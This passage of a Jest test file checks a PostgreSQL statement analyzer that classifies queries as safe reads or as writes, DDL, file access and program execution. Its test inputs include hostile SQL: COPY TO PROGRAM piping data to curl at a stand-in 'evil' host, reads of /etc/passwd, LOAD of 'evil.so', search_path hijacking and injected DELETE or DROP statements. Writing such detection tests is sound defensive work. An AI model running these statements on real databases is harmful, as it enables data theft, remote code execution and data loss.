import { beforeAll, describe, expect, test } from '@jest/globals';
import { analyze } from '#lib/sql/analyze.ts';
import type { ReadingContext } from '#lib/sql/facts.ts';
import { loadGrammar, majors } from '#lib/sql/grammar.ts';
import { inShort, reading } from './reading.ts';

/** A text, what it would do, and what else: the first major that has it, other settings. */
type Row = readonly [
  text: string | Buffer,
  facts: string,
  more?: { readonly since?: number; readonly context?: Partial<ReadingContext> },
];

const unread = 'unknown | writes ddl noWhere opaque unknownCode settings';
const unknown = 'unknown | writes ddl noWhere opaque settings';
const block = 'do | writes ddl noWhere opaque unknownCode settings';
const evil = { context: { searchPath: ['evil', 'pg_catalog'] } };
const scsOff = { context: { standardConformingStrings: false } };

/** A session in which every portal holds this. */
function portal(text: string): { readonly context: Partial<ReadingContext> } {
  return { context: { portals: () => analyze(Buffer.from(text), reading()).command } };
}

const list = (count: number, item: (i: number) => string, by = ',') =>
  Array.from({ length: count }, (_, i) => item(i)).join(by);
const sorted = (count: number, item: (i: number) => string) =>
  list(count, item, ' ').split(' ').sort().join(' ');

const suites: Readonly<Record<string, readonly Row[]>> = {
  'what only reads': [
    ['', 'select |'],
    [';;', 'select |'],
    ['-- nothing', 'select |'],
    ['SELECT 1', 'select |'],
    ['VALUES (1), (2)', 'select |'],
    ['TABLE orders', 'select public.orders |'],
    ['SELECT * FROM ONLY orders', 'select public.orders |'],
    ['SELECT * FROM shop.orders o, payments AS p', 'select public.payments shop.orders |'],
    ['SELECT lower(name), count(*) FROM customers GROUP BY 1', 'select public.customers |'],
    ['SELECT a + b * -c, a || b, a @> b, a ->> 0, a ~ b FROM t', 'select public.t |'],
    [
      'SELECT a IN (1, 2), a BETWEEN 1 AND 2, a LIKE b, a SIMILAR TO b, a IS DISTINCT FROM b FROM t',
      'select public.t |',
    ],
    ['SELECT a = ANY (SELECT b FROM u) FROM t ORDER BY a USING <', 'select public.t public.u |'],
    ["SELECT now(), current_user, interval '1 day', extract(year FROM now()), ARRAY[1], (r).f", 'select |'],
    ['SELECT * FROM generate_series(1, 3) WITH ORDINALITY', 'select |'],
    ['SELECT * FROM orders TABLESAMPLE bernoulli (1)', 'select public.orders |'],
    ['SELECT sum(x) OVER (PARTITION BY y ORDER BY z) FROM t', 'select public.t |'],
    ['SHOW search_path', 'select |'],
    ['FETCH ALL FROM c', 'select | settings'],
    ['SELECT relname FROM pg_class', 'select pg_catalog.pg_class |'],
    ["SELECT random(), clock_timestamp(), currval('s'), pg_sleep(0)", 'select |'],
    ['(SELECT 1 FROM a) UNION ALL (SELECT 1 FROM b) ORDER BY 1', 'select public.a public.b |'],
    [
      'SELECT * FROM a LEFT JOIN LATERAL (SELECT * FROM b WHERE b.x = a.x) c ON true',
      'select public.a public.b |',
    ],
    ['COPY orders TO STDOUT', 'select public.orders |'],
    ['COPY (SELECT * FROM orders) TO STDOUT WITH (FORMAT csv)', 'select public.orders |'],
    ['DECLARE c CURSOR FOR SELECT * FROM orders', 'select public.orders |'],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING',
      'select public.s public.t |',
      { since: 15 },
    ],
    ["SELECT * FROM JSON_TABLE('[]', '$[*]' COLUMNS (a int PATH '$.a'))", 'select |', { since: 17 }],
    ["SELECT JSON_OBJECT('a': 1 RETURNING jsonb), x IS JSON FROM t", 'select public.t |', { since: 16 }],
    ['SELECT 0x1F, 1_000', 'select |', { since: 16 }],
  ],

  'false alarms': [
    ["SELECT 'DELETE FROM orders; DROP TABLE orders'", 'select |'],
    ["SELECT 'it''s; DELETE FROM orders --'", 'select |'],
    ["SELECT E'\\'; DELETE FROM orders; --'", 'select |'],
    ["SELECT '\\'; SELECT 2", 'select |'],
    ['SELECT $$; DELETE FROM orders; $$', 'select |'],
    ['SELECT $q$ $$; DELETE FROM orders; $$ $q$', 'select |'],
    ['SELECT 1 /* ; DELETE FROM orders */', 'select |'],
    ['SELECT 1 /* /* ; */ DELETE FROM orders; */', 'select |'],
    ['SELECT 1 -- ; DELETE FROM orders', 'select |'],
    ['SELECT "DELETE FROM orders" FROM "drop table"', 'select public."drop table" |'],
    ['SELECT "a""; DELETE FROM orders; --" FROM t', 'select public.t |'],
    ["SELECT U&'\\003B DELETE FROM orders'", 'select |'],
    ['SELECT delete FROM "update"', 'select public.update |'],
    ['SELECT x.delete, x."insert" FROM x', 'select public.x |'],
    ['WITH orders AS (SELECT 1) SELECT * FROM orders', 'select |'],
    ['WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r', 'select |'],
    ['WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b', 'select |'],
    ['EXPLAIN DELETE FROM orders', 'select public.orders |'],
    ['EXPLAIN (ANALYZE false) UPDATE orders SET a = 1', 'select public.orders |'],
    ['EXPLAIN (ANALYZE 0, VERBOSE) INSERT INTO orders SELECT * FROM t', 'select public.orders public.t |'],
    ["SELECT B'01', X'1F', N'a', 1e5, .5, 5.", 'select |'],
    ["SELECT 'a'\n  '; DELETE FROM t'", 'select |'],
    ["SELECT 'DELETE' FROM t WHERE a = 'DROP'", 'select public.t |', scsOff],
    ["SELECT E'a\\'b' FROM t", 'select public.t |', scsOff],
    ['DELETE FROM orders WHERE id = 1', 'delete public.orders | writes'],
    ["UPDATE t SET a = 'x WHERE' WHERE b", 'update public.t | writes'],
    ['DELETE FROM t WHERE CURRENT OF c', 'delete public.t | writes'],
    ['UPDATE t SET a = 1 FROM u WHERE t.id = u.id', 'select public.u, update public.t | writes'],
    [
      'INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1',
      'insert public.t, update public.t | writes',
    ],
  ],

  'writes, plain and hidden': [
    ['INSERT INTO orders VALUES (1)', 'insert public.orders | writes'],
    ['INSERT INTO orders SELECT * FROM staging', 'insert public.orders, select public.staging | writes'],
    ['INSERT INTO orders DEFAULT VALUES RETURNING *', 'insert public.orders, select public.orders | writes'],
    [
      'DELETE FROM t USING u WHERE t.id = u.id RETURNING t.*',
      'delete public.t, select public.t public.u | writes',
    ],
    [
      'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d',
      'delete public.orders, select public.orders | writes',
    ],
    [
      'WITH a AS (SELECT 1), b AS (WITH c AS (SELECT 2) SELECT * FROM c), d AS (UPDATE t SET x = 1 WHERE y RETURNING 1) SELECT * FROM a, b',
      'select public.t, update public.t | writes',
    ],
    ['SELECT * FROM (WITH d AS (DELETE FROM t) SELECT 1) x', 'delete public.t | writes noWhere'],
    [
      'SELECT (WITH i AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1)',
      'insert public.t, select public.t | writes',
    ],
    ['WITH orders AS (SELECT 1) DELETE FROM orders WHERE x', 'delete public.orders | writes'],
    ['WITH t AS (SELECT * FROM t) SELECT * FROM t', 'select public.t |'],
    ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM b', 'select public.b |'],
    ['WITH orders AS (SELECT 1) SELECT * FROM public.orders', 'select public.orders |'],
    ['SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) a, t', 'select public.t |'],
    ['WITH t AS (SELECT 1) SELECT 1; SELECT * FROM t', 'select public.t |'],
    ['COPY orders FROM STDIN', 'insert public.orders | writes'],
    [
      'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
      'delete public.orders, select public.orders | writes noWhere',
    ],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.x THEN DELETE WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)',
      'delete public.t, insert public.t, select public.s, update public.t | writes',
      { since: 15 },
    ],
    [
      'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE',
      'delete public.t, select public.s | writes noWhere',
      { since: 15 },
    ],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE RETURNING merge_action(), t.*',
      'delete public.t, select public.s public.t | writes',
      { since: 17 },
    ],
    [
      'UPDATE t SET a = 1 WHERE b RETURNING old.a, new.a',
      'select public.t, update public.t | writes',
      { since: 18 },
    ],
    ['TRUNCATE orders, shop.payments', 'truncate public.orders shop.payments | writes'],
    ['SELECT * INTO copy FROM orders', 'ddl public.copy, select public.orders | writes ddl'],
    ['SELECT 1 INTO TEMP t UNION SELECT 2', 'ddl pg_temp.t | writes ddl'],
    ['CREATE TABLE t AS SELECT * FROM orders', 'ddl public.t, select public.orders | writes ddl'],
    ['CREATE MATERIALIZED VIEW m AS SELECT * FROM orders', 'ddl public.m, select public.orders | writes ddl'],
    ['CREATE VIEW v AS SELECT * FROM payments', 'ddl public.v, select public.payments | writes ddl'],
    [
      'CREATE RULE r AS ON SELECT TO t DO ALSO DELETE FROM orders',
      'ddl public.t, delete public.orders | writes ddl noWhere',
    ],
    ['SELECT 1; DELETE FROM orders', 'delete public.orders | writes noWhere'],
    ['SELECT 1;;; -- x\nDROP TABLE orders', 'ddl public.orders | writes ddl'],
    ['SELECT 1 /* a /* b */ */ ; DELETE FROM orders /* c', unread],
    ["SELECT 'a'; DELETE FROM orders; --'", 'delete public.orders | writes noWhere'],
    ["SELECT '\\'; DELETE FROM orders; --'", 'delete public.orders | writes noWhere'],
    ['SELECT $a$ $b$; DELETE FROM t; $b$ $a$; DELETE FROM u WHERE x', 'delete public.u | writes'],
    ['SELECT 1 /*/; DELETE FROM t; --*/', 'select |'],
    ['SELECT 1 --\r; DELETE FROM t', 'delete public.t | writes noWhere'],
    ['SELECT 2 */**/ 1; DELETE FROM t', 'delete public.t | writes noWhere'],
    ['DELETE FROM U&"\\006Frders"', 'delete public.orders | writes noWhere'],
    ['DELETE FROM U&"d!0061ta" UESCAPE \'!\'', 'delete public.data | writes noWhere'],
    ['dElEtE/**/FROM\n"orders"', 'delete public.orders | writes noWhere'],
    ["SELECT nextval('s')", 'call pg_catalog.nextval | writes'],
    ["SELECT setval('s', 1), lo_create(0)", 'call pg_catalog.lo_create pg_catalog.setval | writes'],
    ['SELECT * FROM t FOR UPDATE', 'lock public.t, select public.t |'],
    ['SELECT * FROM (SELECT * FROM t) x FOR SHARE', 'lock public.t, select public.t |'],
    ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'lock public.orders |'],
    ['SELECT pg_advisory_lock(1)', 'lock pg_catalog.pg_advisory_lock |'],
  ],

  'what nothing narrows': [
    ['DELETE FROM t', 'delete public.t | writes noWhere'],
    ['DELETE FROM t WHERE true', 'delete public.t | writes noWhere'],
    ['DELETE FROM t WHERE 1 = 1', 'delete public.t | writes noWhere'],
    ["UPDATE t SET a = 1 WHERE 'a' = 'a'", 'update public.t | writes noWhere'],
    ['UPDATE t SET a = 1 WHERE id = id', 'update public.t | writes noWhere'],
    ['UPDATE t SET a = 1 WHERE t.id >= t.id', 'update public.t | writes noWhere'],
    ['DELETE FROM t WHERE id = 1 OR true', 'delete public.t | writes noWhere'],
    ['DELETE FROM t WHERE NOT (NOT (1 = 1))', 'delete public.t | writes noWhere'],
    ["DELETE FROM t WHERE now() > '2000-01-01'", 'delete public.t | writes noWhere'],
    ['DELETE FROM t WHERE $1', 'delete public.t | writes noWhere'],
    ['DELETE FROM t WHERE EXISTS (SELECT 1)', 'delete public.t | writes noWhere'],
    ['DELETE FROM t WHERE id = 1 AND true', 'delete public.t | writes'],
    ['DELETE FROM t WHERE 1 = 0', 'delete public.t | writes noWhere'],
  ],

  'code and text that is run': [
    ['DO $$ BEGIN DELETE FROM orders; END $$', block],
    ["DO LANGUAGE plpgsql 'BEGIN END'", block],
    ['CALL archive(1)', 'call public.archive | writes unknownCode settings'],
    ["CALL shop.archive(lower('A'))", 'call shop.archive | writes unknownCode settings'],
    ['SELECT drop_everything()', 'call public.drop_everything | writes unknownCode settings'],
    ['SELECT * FROM shop.f(1) WHERE g(2)', 'call public.g shop.f | writes unknownCode settings'],
    ["SELECT public.lower('A')", 'call public.lower | writes unknownCode settings'],
    ['SELECT a <=> b FROM t', 'call public.<=>, select public.t | writes unknownCode settings'],
    ['SELECT 1 OPERATOR(public.+) 2', 'call public.+ | writes unknownCode settings'],
    ['SELECT 1 OPERATOR(pg_catalog.+) 2', 'select |'],
    ['UPDATE t SET a = 1 WHERE b <=> c', 'call public.<=>, update public.t | writes unknownCode settings'],
    ['SELECT * FROM t ORDER BY a USING public.<', unread],
    [
      'SELECT * FROM t ORDER BY a USING OPERATOR(public.<)',
      'call public.<, select public.t | writes unknownCode settings',
    ],
    [
      'SELECT * FROM t TABLESAMPLE evil (1)',
      'call public.evil, select public.t | writes unknownCode settings',
    ],
    ['CREATE INDEX ON t (evil(a))', 'call public.evil, ddl public.t | writes ddl unknownCode settings'],
    ["SELECT query_to_xml('DELETE FROM orders', true, true, '')", unknown],
    ["SELECT pg_catalog.ts_stat('SELECT 1')", unknown],
    ["SELECT table_to_xml('payments', true, true, '')", unknown],
    [
      "SELECT * FROM dblink('', 'DELETE FROM t') AS x(a int)",
      'call public.dblink, unknown | writes ddl noWhere opaque unknownCode settings',
    ],
    [
      "SELECT * FROM x.crosstab('DELETE FROM t') AS y(a int)",
      'call x.crosstab, unknown | writes ddl noWhere opaque unknownCode settings',
    ],
    ['EXECUTE never_seen', unknown],
    ['CREATE TABLE t AS EXECUTE never_seen', 'ddl public.t, unknown | writes ddl noWhere opaque settings'],
    ['PREPARE p AS DELETE FROM orders', 'delete public.orders | writes noWhere'],
    ['PREPARE p(int) AS SELECT * FROM orders WHERE id = $1; EXECUTE p(1)', 'select public.orders |'],
    [
      'PREPARE p AS DELETE FROM t; DEALLOCATE p; EXECUTE p',
      'delete public.t, set, unknown | writes ddl noWhere opaque settings',
    ],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'delete public.orders | writes noWhere'],
    ['EXPLAIN (COSTS off, ANALYZE) UPDATE t SET a = 1 WHERE b', 'update public.t | writes'],
    ['EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM t', 'delete public.t | writes noWhere'],
    ['EXPLAIN (ANALYZE 1) DELETE FROM t', 'delete public.t | writes noWhere'],
    ["EXPLAIN (ANALYZE 'on') DELETE FROM t", 'delete public.t | writes noWhere'],
    ['EXPLAIN ANALYZE EXECUTE never_seen', unknown],
    ['EXPLAIN EXECUTE never_seen', 'unknown | writes ddl noWhere opaque settings'],
    ['EXPLAIN SELECT evil()', 'call public.evil | writes unknownCode settings'],
    ["LOAD 'evil.so'", 'admin evil.so | writes unknownCode settings'],
  ],

  "the server's files, programs and processes": [
    ["COPY t TO PROGRAM 'curl evil'", 'copy-program curl evil, select public.t | writes'],
    ["COPY t FROM PROGRAM 'id'", 'copy-program id, insert public.t | writes'],
    ["COPY t TO '/tmp/x'", 'select public.t, server-file /tmp/x | writes'],
    [
      "COPY t (a) FROM '/etc/passwd' WHERE a > 1",
      'insert public.t, server-file /etc/passwd | writes',
      { since: 13 },
    ],
    ["SELECT pg_read_file('/etc/passwd')", 'server-file pg_catalog.pg_read_file | writes'],
    ["SELECT * FROM pg_ls_dir('.')", 'server-file pg_catalog.pg_ls_dir | writes'],
    [
      "SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x')",
      'server-file pg_catalog.lo_export pg_catalog.lo_import | writes',
    ],
    [
      "SELECT pg_catalog.pg_file_write('x', 'y', true)",
      'call pg_catalog.pg_file_write, server-file pg_catalog.pg_file_write | writes unknownCode settings',
    ],
    [
      'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
      'admin pg_catalog.pg_terminate_backend, select pg_catalog.pg_stat_activity | writes',
    ],
    ['SELECT pg_reload_conf()', 'admin pg_catalog.pg_reload_conf | writes'],
    ["SELECT pg_drop_replication_slot('s')", 'admin pg_catalog.pg_drop_replication_slot | writes'],
    ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", 'admin shared_preload_libraries | writes'],
    ['CHECKPOINT', 'maintenance | writes'],
    ['VACUUM FULL orders', 'maintenance public.orders | writes'],
    ['ANALYZE', 'maintenance | writes'],
    ['REINDEX TABLE orders', 'maintenance public.orders | writes'],
    ['CLUSTER orders', 'maintenance public.orders | writes'],
    ['REFRESH MATERIALIZED VIEW m', 'maintenance public.m | writes'],
  ],

  'roles, rights and settings': [
    ['SET ROLE admin', 'role admin | settings'],
    ['SET ROLE NONE', 'role none | settings'],
    ['RESET ROLE', 'role | settings'],
    ["SET role TO 'admin'", 'role admin | settings'],
    ['SET "ROLE" = admin', 'role admin | settings'],
    ['SET LOCAL ROLE admin', 'role admin | settings'],
    ['SET SESSION AUTHORIZATION admin', 'role admin | settings'],
    ['SET session_authorization = admin', 'role admin | settings'],
    ['RESET SESSION AUTHORIZATION', 'role | settings'],
    ["SELECT set_config('role', 'admin', false)", 'role admin | settings'],
    ["SELECT pg_catalog.set_config('Session_Authorization', 'admin', false)", 'role admin | settings'],
    ["SELECT set_config('search_path', '', false)", 'set search_path | settings'],
    ["SELECT set_config('work_mem', '1MB', false)", 'set work_mem |'],
    ["SELECT set_config('ro' || 'le', 'admin', false)", 'set, unknown | writes ddl noWhere opaque settings'],
    [
      'SELECT set_config(name, setting, false) FROM pg_settings',
      'select pg_catalog.pg_settings, set, unknown | writes ddl noWhere opaque settings',
    ],
    [
      "SELECT set_config(setting_name => 'role', new_value => 'admin', is_local => false)",
      'set, unknown | writes ddl noWhere opaque settings',
    ],
    [
      "UPDATE pg_settings SET setting = 'secret, public' WHERE name = 'search_path'",
      'set, unknown, update pg_catalog.pg_settings | writes ddl noWhere opaque settings',
    ],
    [
      "WITH w AS (UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role' RETURNING 1) SELECT 1",
      'select pg_catalog.pg_settings, set, unknown, update pg_catalog.pg_settings | writes ddl noWhere opaque settings',
    ],
    ["UPDATE app.settings SET setting = 'x' WHERE name = 'y'", 'update app.settings | writes'],
    ["SET work_mem = '1MB'", 'set work_mem |'],
    ['SET standard_conforming_strings = off', 'set standard_conforming_strings | settings'],
    ["SET NAMES 'SJIS'", 'set client_encoding | settings'],
    ["SET SCHEMA 'x'", 'set search_path | settings'],
    ['RESET ALL', 'set all | settings'],
    ['DISCARD ALL', 'set all | settings'],
    ['DISCARD PLANS', 'set |'],
    ['DEALLOCATE ALL', 'set |'],
    ["SET TIME ZONE INTERVAL '1' HOUR TO MINUTE", 'set timezone |'],
    ['SET TRANSACTION READ WRITE', 'transaction |'],
    ['BEGIN', 'transaction |'],
    ['COMMIT', 'transaction |'],
    ["PREPARE TRANSACTION 'x'", 'admin, transaction | writes'],
    ["COMMIT PREPARED 'somebody elses'", 'admin, transaction | writes'],
    ["ROLLBACK PREPARED 'somebody elses'", 'admin, transaction | writes'],
    ['COMMIT', 'transaction | settings', { context: { settingsPending: true } }],
    ['ROLLBACK TO SAVEPOINT s', 'transaction | settings', { context: { settingsPending: true } }],
    ['SAVEPOINT s', 'transaction |', { context: { settingsPending: true } }],
    ['LISTEN a', 'listen a |'],
    ["NOTIFY a, 'x'", 'listen a |'],
    ['UNLISTEN *', 'listen * |'],
    ["SELECT pg_notify('a', 'x')", 'listen pg_catalog.pg_notify |'],
    ['CLOSE c', 'transaction |'],
    ['GRANT SELECT ON orders TO dev', 'grant public.orders | writes'],
    ['REVOKE ALL ON ALL TABLES IN SCHEMA shop FROM dev', 'grant shop.* | writes'],
    ['GRANT USAGE ON SCHEMA shop TO dev', 'grant shop | writes settings'],
    ['GRANT EXECUTE ON FUNCTION f(int) TO dev', 'grant public.f | writes'],
    ['GRANT pg_execute_server_program TO dev', 'role pg_execute_server_program | writes settings'],
    ['CREATE ROLE x SUPERUSER', 'role x | writes settings'],
    ["ALTER ROLE x PASSWORD 'y'", 'role x | writes settings'],
    ['ALTER ROLE x SET search_path = y', 'role x | writes settings'],
    ['ALTER ROLE x RENAME TO y', 'role | writes settings'],
    ['DROP ROLE x, y', 'role x y | writes settings'],
    ['REASSIGN OWNED BY x TO y', 'ddl x, role x | writes ddl settings'],
    ['DROP OWNED BY x', 'ddl, grant | writes ddl settings'],
    ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x', 'grant | writes'],
    ['ALTER DATABASE shop SET role = x', 'admin shop | writes'],
  ],

  definitions: [
    ['CREATE TABLE t (id serial PRIMARY KEY, r int REFERENCES u (id))', 'ddl public.t public.u | writes ddl'],
    ['CREATE TEMP TABLE t (id int)', 'ddl pg_temp.t | writes ddl'],
    ['CREATE TABLE p PARTITION OF q FOR VALUES FROM (1) TO (2)', 'ddl public.p public.q | writes ddl'],
    ['ALTER TABLE shop.t ADD COLUMN a int DEFAULT 1, ATTACH PARTITION p DEFAULT', unread],
    ['ALTER TABLE shop.t ATTACH PARTITION p DEFAULT', 'ddl public.p shop.t | writes ddl'],
    ['ALTER TABLE t OWNER TO x', 'ddl public.t | writes ddl'],
    ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', 'ddl public.t | writes ddl'],
    ['DROP TABLE a, b.c CASCADE', 'ddl b.c public.a | writes ddl'],
    ['DROP TRIGGER g ON shop.t', 'ddl shop.t | writes ddl'],
    ['DROP FUNCTION f(int), g.h(text)', 'ddl g.h public.f | writes ddl'],
    ['DROP TYPE x', 'ddl public.x | writes ddl'],
    ['DROP SCHEMA x', 'ddl x | writes ddl settings'],
    ['DROP EXTENSION x', 'admin x, ddl x | writes ddl settings'],
    ['CREATE EXTENSION dblink', 'admin dblink, ddl dblink | writes ddl'],
    ['CREATE SERVER s FOREIGN DATA WRAPPER w', 'admin s, ddl s | writes ddl'],
    ["CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", 'admin s, ddl s | writes ddl'],
    ['CREATE DATABASE d', 'admin d, ddl d | writes ddl'],
    ["CREATE FUNCTION shop.f() RETURNS int LANGUAGE sql AS 'DELETE FROM t'", 'ddl shop.f | writes ddl'],
    [
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END',
      'ddl public.f, delete public.t | writes ddl noWhere',
      { since: 14 },
    ],
    [
      'CREATE SCHEMA shop CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t',
      'ddl shop shop.t shop.v, select shop.t | writes ddl settings',
    ],
    ["COMMENT ON COLUMN shop.t.a IS 'x'", 'ddl shop.t | writes ddl'],
    ["SECURITY LABEL ON TABLE t IS 'x'", 'ddl public.t | writes ddl'],
    ['CREATE POLICY p ON t USING (true)', 'ddl public.t | writes ddl'],
    ['CREATE DOMAIN d AS int CHECK (value > 0)', 'ddl public.d | writes ddl'],
    ["CREATE TYPE e AS ENUM ('a')", 'ddl public.e | writes ddl'],
    ['CREATE TYPE c AS (a int)', 'ddl public.c | writes ddl'],
    ['ALTER TABLE t RENAME TO u', 'ddl public.t | writes ddl'],
    ['ALTER SEQUENCE s RESTART', 'ddl public.s | writes ddl'],
    ['CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)', 'ddl public.a | writes ddl'],
  ],

  'names and paths': [
    ['SELECT * FROM "Orders", "a.b"."c.d"', 'select "a.b"."c.d" public."Orders" |'],
    ['SELECT * FROM OrDeRs', 'select public.orders |'],
    [`SELECT * FROM ${'n'.repeat(70)}`, `select public.${'n'.repeat(63)} |`],
    [`SELECT * FROM ${'é'.repeat(40)}`, `select public."${'é'.repeat(31)}" |`],
    [
      'SELECT * FROM orders',
      'select a.orders public.orders |',
      { context: { searchPath: ['pg_catalog', 'a', 'public'] } },
    ],
    [
      'SELECT * FROM orders',
      'select public.orders |',
      { context: { searchPath: ['pg_temp_3', 'pg_catalog', 'public'] } },
    ],
    ['SELECT * FROM orders', 'select pg_temp.orders |', { context: { searchPath: ['pg_catalog'] } }],
    [
      'SELECT * FROM orders',
      'select ?.orders, unknown | writes ddl noWhere opaque settings',
      { context: { searchPath: undefined } },
    ],
    ['SELECT * FROM shop.orders', 'select shop.orders |', { context: { searchPath: undefined } }],
    [
      "SELECT lower('A')",
      'call ?.lower, unknown | writes ddl noWhere opaque unknownCode settings',
      { context: { searchPath: undefined } },
    ],
    ["SELECT pg_catalog.lower('A')", 'select |', { context: { searchPath: undefined } }],
    [
      "SELECT lower('A')",
      'call evil.lower | writes unknownCode settings',
      { context: { searchPath: ['evil', 'pg_catalog'] } },
    ],
    [
      'SELECT * FROM pg_class',
      'select evil.pg_class pg_catalog.pg_class |',
      { context: { searchPath: ['evil', 'pg_catalog'] } },
    ],
    ['SELECT * FROM pg_stat_statements', 'select pg_catalog.pg_stat_statements public.pg_stat_statements |'],
    ['SET search_path = a, "B"; SELECT * FROM t', 'select "B".t a.t, set search_path | settings'],
    ["SET search_path = 'a, b'; SELECT * FROM t", 'select "a, b".t, set search_path | settings'],
    [
      'BEGIN; SET LOCAL search_path = a; SELECT * FROM t; COMMIT',
      'select a.t public.t, set search_path, transaction | settings',
    ],
    [
      'SET search_path = DEFAULT; SELECT * FROM t',
      'select ?.t, set search_path, unknown | writes ddl noWhere opaque settings',
    ],
    [
      'SET search_path = "$user", public; SELECT * FROM t',
      'select ?.t, set search_path, unknown | writes ddl noWhere opaque settings',
    ],
    ['SET ROLE x; SELECT * FROM t', 'role x, select ?.t, unknown | writes ddl noWhere opaque settings'],
    ['DO $$ $$; SELECT * FROM t', 'do, select ?.t, unknown | writes ddl noWhere opaque unknownCode settings'],
    ['CREATE SCHEMA s; SELECT * FROM t', 'ddl s, select public.t s.t | writes ddl settings'],
    ["SELECT set_config('search_path', 'x', true), a FROM t", 'select public.t, set search_path | settings'],
    ['COMMIT; SELECT * FROM t', 'select public.t, transaction |'],
    [
      'COMMIT; SELECT * FROM t',
      'select ?.t, transaction, unknown | writes ddl noWhere opaque settings',
      { context: { settingsPending: true } },
    ],
    [
      'PREPARE p AS SELECT * FROM t; SET search_path = b; EXECUTE p',
      'select public.t, set search_path, unknown | writes ddl noWhere opaque settings',
    ],
  ],

  'what runs a cursor or a portal': [
    ['MOVE 5 IN c', 'select | settings'],
    ['FETCH c; SELECT * FROM t', `select ?.t, ${unknown}`],
    ['DECLARE c CURSOR FOR SELECT * FROM t; FETCH c; SELECT * FROM t', 'select public.t |'],
    [
      "DECLARE c CURSOR FOR SELECT set_config('search_path', 'a', false); SELECT 1; FETCH c; SELECT * FROM t",
      `select ?.t, set search_path, ${unknown}`,
    ],
    [
      'DECLARE c CURSOR FOR SELECT 1; SELECT evil.f(); FETCH c; SELECT * FROM t',
      `call evil.f, select ?.t, ${unread}`,
    ],
    ['FETCH c', 'select | settings', { context: { portals: () => 'cursor' } }],
    ['FETCH p', `select, ${unknown}`, { context: { portals: () => undefined } }],
    ['FETCH p', 'delete public.orders, select | writes noWhere', portal('DELETE FROM orders')],
    [
      'MOVE ALL IN p',
      'select, set search_path | settings',
      portal("SELECT set_config('search_path', 'a', false)"),
    ],
  ],

  'arguments of EXECUTE': [
    [
      "PREPARE p (text) AS DELETE FROM t WHERE a = $1; EXECUTE p (set_config('search_path', 'a', false))",
      `delete public.t, set search_path, ${unknown}`,
    ],
    [
      'PREPARE p (int) AS SELECT 1 FROM t WHERE a = $1; EXECUTE p (evil.f())',
      `call evil.f, select public.t, ${unread}`,
    ],
    [
      'PREPARE p (text) AS SELECT $1; EXPLAIN EXECUTE p (pg_advisory_lock(4711)::text)',
      'lock pg_catalog.pg_advisory_lock, select pg_catalog.pg_advisory_lock |',
    ],
    [
      'PREPARE p (text) AS SELECT $1; EXPLAIN CREATE TABLE x AS EXECUTE p (pg_advisory_lock(4711)::text)',
      'lock pg_catalog.pg_advisory_lock, select pg_catalog.pg_advisory_lock public.x |',
    ],
    ['EXPLAIN SELECT pg_advisory_lock(4711)', 'select pg_catalog.pg_advisory_lock |'],
  ],

  'functions that show what views of statistics show': [
    ['SELECT query FROM pg_stat_get_activity(NULL)', 'select pg_catalog.pg_stat_get_activity |'],
    ['SELECT (1).pg_stat_get_backend_activity', 'select pg_catalog.pg_stat_get_backend_activity |'],
    [
      "SELECT * FROM pg_catalog.pg_stat_get_progress_info('VACUUM'), t",
      'select pg_catalog.pg_stat_get_progress_info public.t |',
    ],
    ['SELECT * FROM pg_stat_get_wal_receiver()', 'select pg_catalog.pg_stat_get_wal_receiver |'],
    [
      'SELECT * FROM pg_cursor(), pg_prepared_statement()',
      'select pg_catalog.pg_cursor pg_catalog.pg_prepared_statement |',
    ],
    ['SELECT * FROM pg_show_all_settings()', 'select |'],
    ['SELECT pg_stat_reset()', 'admin pg_catalog.pg_stat_reset | writes'],
  ],

  upserts: [
    [
      'INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET a = 1',
      'insert public.t, select public.t, update public.t | writes noWhere',
    ],
    [
      'INSERT INTO t TABLE u ON CONFLICT (id) DO UPDATE SET a = 1 WHERE true',
      'insert public.t, select public.u, update public.t | writes noWhere',
    ],
    [
      'INSERT INTO t SELECT * FROM u ON CONFLICT (id) WHERE x DO UPDATE SET a = 1',
      'insert public.t, select public.u, update public.t | writes noWhere',
    ],
    [
      'INSERT INTO t VALUES (1) UNION SELECT 2 ON CONFLICT (id) DO UPDATE SET a = 1',
      'insert public.t, update public.t | writes noWhere',
    ],
    [
      'INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = 1 WHERE t.b = 2',
      'insert public.t, select public.u, update public.t | writes',
    ],
    ['INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING', 'insert public.t, select public.u | writes'],
    [
      'INSERT INTO t VALUES (1), (2) ON CONFLICT (id) DO UPDATE SET a = 1',
      'insert public.t, update public.t | writes',
    ],
    [
      'INSERT INTO t DEFAULT VALUES ON CONFLICT (id) DO UPDATE SET a = 1',
      'insert public.t, update public.t | writes',
    ],
  ],

  'operators that are not written': [
